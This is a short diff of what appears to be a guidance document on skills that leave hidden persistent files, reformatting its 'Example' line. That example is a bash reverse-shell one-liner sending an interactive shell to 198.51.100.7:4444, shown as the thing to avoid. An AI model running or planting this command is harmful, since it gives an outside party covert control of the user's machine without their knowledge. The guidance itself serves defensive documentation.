@@ -10,10 +10,7 @@ it sets such files up, a write is a note.
 It outlives the skill, and the user does not see it.
 
 ## Example
-
-```sh
-bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
-```
+`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`
 
 ## Use instead
 Let the user set up what must run regularly, and say so in the description.
